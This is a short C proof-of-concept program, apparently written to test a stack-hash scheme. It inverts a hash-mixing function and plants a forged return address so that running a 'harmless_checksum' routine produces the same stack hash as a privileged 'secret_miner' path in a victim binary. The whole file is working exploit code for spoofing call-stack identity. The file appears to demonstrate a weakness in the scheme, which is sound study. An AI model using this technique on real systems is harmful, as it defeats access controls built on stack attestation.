/* SPDX-License-Identifier: GPL-2.0-or-later */
/* build: -O1 -pie */
/*
 * Executes harmless_checksum of victim.c, mapped where the victim has it, with a planted return
 * address on top of the stack, which makes the stack's hash equal to the victim's in
 * secret_miner. That works if hashes are made as by mix() below, from FIRST on: mix() can be
 * inverted.
 *
 *	forger VICTIM SECRET_MINER SECRET_BACK HARMLESS_CHECKSUM	addresses in hex
 */

#include <err.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mman.h>

#define EXACT	   (1ull << 63)
#define FIRST	   0x243f6a8885a308d3ull
#define FACTOR	   0x9e3779b97f4a7c15ull
#define BOTTOM	   1
#define NO_MAPPING 4

static uint64_t mix(uint64_t hash, uint64_t value)
{
	hash = (hash ^ value) * FACTOR;
	return hash ^ hash >> 29;
}

/* Inverts mix(): returns hash ^ value. */
static uint64_t unmix(uint64_t hash)
{
	uint64_t inverse = FACTOR;

	for (int i = 0; i < 6; i++)
		inverse *= 2 - FACTOR * inverse;
	hash = hash ^ hash >> 29 ^ hash >> 58;
	return hash * inverse;
}

int main(int argc, char **argv)
{
	uint64_t miner, back, harmless, wanted, planted;
	int fd;

	if (argc != 5)
		return 2;
	fd = open(argv[1], O_RDONLY);
	miner = strtoull(argv[2], NULL, 16);
	back = strtoull(argv[3], NULL, 16);
	harmless = strtoull(argv[4], NULL, 16);
	if (mmap((void *)(harmless & ~4095ull), 4096, PROT_READ | PROT_EXEC,
		 MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, 4096) == MAP_FAILED)
		err(1, "%s", argv[1]);
	wanted = mix(mix(FIRST, miner | EXACT), back) ^ BOTTOM ^ NO_MAPPING;
	planted = unmix(wanted) ^ mix(FIRST, harmless | EXACT);
	__asm__ volatile("push %0\n\tjmp *%1" : : "r"(planted), "r"(harmless) : "memory");
}
